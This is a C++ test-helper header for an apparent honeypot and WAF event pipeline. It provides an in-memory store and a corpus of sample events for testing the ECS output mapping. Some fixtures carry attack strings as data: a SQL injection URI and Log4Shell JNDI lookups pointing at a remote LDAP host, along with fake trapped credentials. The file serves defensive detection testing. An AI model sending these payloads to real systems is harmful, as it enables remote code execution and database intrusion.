// Test helpers for the ECS outputs: an in-memory Store (the methods the outputs use; the others
// answer an error) and events of every shape the mapping meets.
#pragma once

#include <cstdint>
#include <map>
#include <mutex>
#include <optional>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "core/event.h"
#include "ecs/geo.h"
#include "store/store.h"

namespace drosera::ecs::testing {

class MemStore final : public store::Store {
 public:
  core::Result<store::InsertResult> insert(const std::vector<core::Event>& events,
                                           const std::vector<store::FileOffset>& = {}) override {
    std::lock_guard lock(mu_);
    store::InsertResult r;
    for (const auto& e : events) {
      if (!keys_.insert({e.sensor, e.unique_id}).second) {
        ++r.duplicates;
        continue;
      }
      events_.push_back({++last_seq_, e});
      ++r.inserted;
      r.last_seq = last_seq_;
    }
    return r;
  }
  using store::Store::readAfter;
  core::Result<std::vector<store::StoredEvent>> readAfter(uint64_t after, size_t limit,
                                                         uint64_t* examined_to) override {
    if (examined_to != nullptr) *examined_to = after;
    std::lock_guard lock(mu_);
    if (fail_reads_ > 0) {
      --fail_reads_;
      return core::Status::unavailable("store: injected read failure");
    }
    std::vector<store::StoredEvent> out;
    for (const auto& se : events_) {
      if (se.seq <= after) continue;
      if (out.size() >= limit) break;
      out.push_back(se);
    }
    if (examined_to != nullptr && !out.empty()) *examined_to = out.back().seq;
    return out;
  }
  core::Result<std::optional<store::StoredEvent>> event(uint64_t seq) override {
    std::lock_guard lock(mu_);
    for (const auto& se : events_) {
      if (se.seq == seq) return std::optional<store::StoredEvent>(se);
    }
    return std::optional<store::StoredEvent>();
  }
  core::Result<store::EventPage> events(const store::EventQuery&) override { return no(); }
  core::Result<std::vector<store::AttackerRow>> attackers(const store::AttackerQuery&) override {
    return no();
  }
  core::Result<std::optional<store::AttackerRow>> attacker(const std::string&) override {
    return no();
  }
  core::Result<std::vector<store::CountBucket>> countsOverTime(const store::EventFilter&, int64_t,
                                                               store::ScanReach*) override {
    return no();
  }
  core::Result<std::vector<store::TopItem>> top(store::Dimension, const store::EventFilter&, size_t,
                                                store::ScanReach*) override {
    return no();
  }
  core::Status sensorSeen(const std::string&, int64_t, int64_t, const std::string&) override {
    return no();
  }
  core::Result<std::vector<store::SensorRow>> sensors() override { return no(); }
  core::Result<uint64_t> cursor(const std::string& reader) override {
    std::lock_guard lock(mu_);
    auto it = cursors_.find(reader);
    return it == cursors_.end() ? uint64_t{0} : it->second;
  }
  core::Status setCursor(const std::string& reader, uint64_t seq) override {
    std::lock_guard lock(mu_);
    if (fail_set_cursor_ > 0) {
      --fail_set_cursor_;
      return core::Status::unavailable("store: injected cursor failure");
    }
    cursors_[reader] = seq;
    cursor_history_[reader].push_back(seq);
    return core::Status::ok();
  }
  core::Result<std::optional<std::string>> getState(const std::string& ns,
                                                    const std::string& key) override {
    std::lock_guard lock(mu_);
    auto it = state_.find({ns, key});
    if (it == state_.end()) return std::optional<std::string>();
    return std::optional<std::string>(it->second);
  }
  core::Status putState(const std::string& ns, const std::string& key,
                        const std::string& value) override {
    std::lock_guard lock(mu_);
    state_[{ns, key}] = value;
    return core::Status::ok();
  }
  core::Result<std::vector<store::FileOffset>> fileOffsets() override { return no(); }
  core::Result<store::RetentionResult> applyRetention(int64_t, uint64_t) override { return no(); }
  core::Result<store::StoreStats> stats() override { return no(); }

  // Test hooks.
  void failNextReads(int n) {
    std::lock_guard lock(mu_);
    fail_reads_ = n;
  }
  void failNextSetCursor(int n) {
    std::lock_guard lock(mu_);
    fail_set_cursor_ = n;
  }
  uint64_t lastSeq() const {
    std::lock_guard lock(mu_);
    return last_seq_;
  }
  std::vector<uint64_t> cursorHistory(const std::string& reader) const {
    std::lock_guard lock(mu_);
    auto it = cursor_history_.find(reader);
    return it == cursor_history_.end() ? std::vector<uint64_t>{} : it->second;
  }
  std::map<std::string, std::string> stateIn(const std::string& ns) const {
    std::lock_guard lock(mu_);
    std::map<std::string, std::string> out;
    for (const auto& [k, v] : state_) {
      if (k.first == ns) out[k.second] = v;
    }
    return out;
  }

 private:
  static core::Status no() { return core::Status::internal("not in the test store"); }

  mutable std::mutex mu_;
  std::vector<store::StoredEvent> events_;
  std::set<std::pair<std::string, std::string>> keys_;
  uint64_t last_seq_ = 0;
  std::map<std::string, uint64_t> cursors_;
  std::map<std::string, std::vector<uint64_t>> cursor_history_;
  std::map<std::pair<std::string, std::string>, std::string> state_;
  int fail_reads_ = 0;
  int fail_set_cursor_ = 0;
};

// 2026-11-28T14:00:00Z
inline constexpr int64_t kBaseTimeUs = 1795874400LL * 1000000;

inline core::Event benignEvent(int n) {
  core::Event e;
  e.sensor = "sensor-a";
  e.unique_id = "u" + std::to_string(n);
  e.format = "drosera";
  e.time_us = kBaseTimeUs + int64_t{n} * 1000;
  e.src_ip = "203.0.113." + std::to_string(1 + n % 200);
  e.src_port = static_cast<uint16_t>(40000 + n % 1000);
  e.dst_ip = "192.0.2.10";
  e.dst_port = 8080;
  e.listener_kind = "real";
  e.method = "GET";
  e.uri = "/index.html";
  e.http_version = "1.1";
  e.host = "shop.example.com";
  e.user_agent = "Mozilla/5.0";
  e.status = 200;
  e.request_headers = {{"Host", "shop.example.com"}, {"User-Agent", "Mozilla/5.0"}};
  return e;
}

inline core::RuleHit rule(int id, std::string message, int severity, std::vector<std::string> tags,
                          std::string ver = "OWASP_CRS/3.3.4") {
  core::RuleHit r;
  r.id = id;
  r.message = std::move(message);
  r.severity = severity;
  r.tags = std::move(tags);
  r.ver = std::move(ver);
  r.data = "Matched Data: ' or 1=1-- found within ARGS:id";
  r.match = "detected SQLi using libinjection";
  r.file = "/usr/share/modsecurity-crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf";
  r.line = 46;
  return r;
}

inline core::Event sqliEvent(int n) {
  core::Event e = benignEvent(n);
  e.uri = "/item.php?id=1%27%20or%201=1--";
  e.rules = {rule(942100, "SQL Injection Attack Detected via libinjection", 2,
                  {"application-multi", "language-multi", "platform-multi", "attack-sqli",
                   "paranoia-level/1", "OWASP_CRS", "capec/1000/152/248/66"}),
             rule(949110, "Inbound Anomaly Score Exceeded (Total Score: 5)", 2,
                  {"application-multi", "anomaly-evaluation"})};
  e.scores = {{"inbound_anomaly_score", 5}, {"sql_injection_score", 5}};
  e.inbound_score = 5;
  e.categories = {"attack-sqli"};
  return e;
}

inline core::Event log4shellEvent(int n) {
  core::Event e = benignEvent(n);
  e.uri = "/?x=${jndi:ldap://198.51.100.9/a}";
  e.user_agent = "${jndi:ldap://198.51.100.9/ua}";
  e.rules = {rule(944150, "Potential Remote Command Execution: Log4j / Log4shell", 2,
                  {"attack-rce", "language-java", "CVE-2021-44228", "cve/CVE-2021-45046"})};
  e.inbound_score = 5;
  return e;
}

inline core::Event trapEvent(int n, const std::string& kind) {
  core::Event e = benignEvent(n);
  e.uri = "/.env";
  e.status = 200;
  e.listener_kind = kind == "fake_port" ? "fake" : "real";
  core::TrapHit t;
  t.kind = kind;
  t.bait = kind == "sensitive_file" ? "/.env" : "bait-" + kind;
  t.captured = kind == "admin_login" ? "admin:hunter2" : "";
  t.rule_id = 9500010;
  t.origin = kind == "honeytoken" ? "u-origin" : "";
  e.traps = {t};
  e.rules = {rule(9500010, "Honeytrap: " + kind, 2, {"honeytrap/" + kind}, "drosera/0.1.0")};
  e.attacker_flagged = true;
  return e;
}

inline GeoInfo fullGeo() {
  GeoInfo g;
  g.lat = 48.8566;
  g.lon = 2.3522;
  g.continent_code = "EU";
  g.continent_name = "Europe";
  g.country_iso_code = "FR";
  g.country_name = "France";
  g.region_iso_code = "FR-IDF";
  g.region_name = "Ile-de-France";
  g.city_name = "Paris";
  g.postal_code = "75001";
  g.timezone = "Europe/Paris";
  g.as_number = 64496;
  g.as_organization = "Example Transit";
  return g;
}

// Events of every shape the collector can hand over.
inline std::vector<core::Event> corpus() {
  std::vector<core::Event> v;
  v.push_back(benignEvent(1));
  v.push_back(sqliEvent(2));
  v.push_back(log4shellEvent(3));
  for (const char* kind : {"fake_port", "robots", "comment", "hidden_field", "cookie",
                           "sensitive_file", "admin_login", "honeytoken", "unheard_of"}) {
    v.push_back(trapEvent(10, kind));
  }
  {
    core::Event e = benignEvent(4);  // IPv6 both ends, TLS, Host with an IPv6 literal
    e.src_ip = "2001:db8::1";
    e.dst_ip = "2001:db8::2";
    e.host = "[2001:db8::2]:8443";
    e.tls = true;
    e.dst_port = 8443;
    v.push_back(e);
  }
  {
    core::Event e = benignEvent(5);  // IPv4-mapped
    e.src_ip = "::ffff:198.51.100.7";
    v.push_back(e);
  }
  {
    core::Event e;  // nothing at all
    v.push_back(e);
  }
  {
    core::Event e = benignEvent(6);  // hostile strings everywhere
    const std::string nasty = std::string("a\"b\\c\nd\re\tf\x01g\x7fh\xff\xfe i\xc3(j") +
                              "\xe2\x80\xa8" + std::string(1, '\0') + "</script>";
    e.sensor = nasty;
    e.unique_id = nasty;
    e.format = nasty;
    e.src_ip = "not-an-ip" + nasty;
    e.dst_ip = "1.2.3.4%eth0";
    e.listener_kind = nasty;
    e.method = nasty;
    e.uri = "/" + nasty + "?q=" + nasty + "#" + nasty;
    e.http_version = nasty;
    e.host = nasty;
    e.user_agent = nasty + std::string(20000, 'A');
    e.request_headers = {{"Referer", nasty}, {nasty, nasty}};
    e.request_body = nasty + std::string(100000, 'B');
    core::RuleHit r = rule(942100, nasty, 99, {nasty, "CVE-2024-" + nasty, "cve-2023-1234"}, nasty);
    r.data = nasty + std::string(5000, 'D');
    e.rules = {r, r};
    e.scores = {{nasty, 1}, {"Upper", 2}, {"sql_injection_score", -3}};
    core::TrapHit t;
    t.kind = nasty;
    t.bait = nasty;
    t.captured = nasty;
    t.origin = nasty;
    e.traps = {t};
    e.categories = {nasty};
    e.anomalies = {nasty};
    e.limits_hit = {nasty};
    e.raw_record = nasty;
    e.time_us = -1234567;  // before 1970
    v.push_back(e);
  }
  {
    core::Event e = benignEvent(7);  // a v2 native record: no destination, absolute-form URI
    e.format = "modsec2-native";
    e.dst_ip.clear();
    e.dst_port = 0;
    e.host.clear();
    e.request_headers.clear();
    e.uri = "http://victim.example:8081/cgi-bin/test.cgi?x=1";
    e.status = 0;
    e.inspected = false;
    v.push_back(e);
  }
  {
    core::Event e = sqliEvent(8);  // many distinct tags and rules
    for (int i = 0; i < 200; ++i) {
      e.rules.push_back(rule(920000 + i, "rule " + std::to_string(i), i % 8,
                             {"tag-" + std::to_string(i), "tag-" + std::to_string(i / 2)}));
    }
    v.push_back(e);
  }
  {
    core::Event e = benignEvent(9);  // OPTIONS *, CONNECT authority-form
    e.method = "OPTIONS";
    e.uri = "*";
    v.push_back(e);
    e.method = "CONNECT";
    e.uri = "example.com:443";
    v.push_back(e);
  }
  return v;
}

}  // namespace drosera::ecs::testing
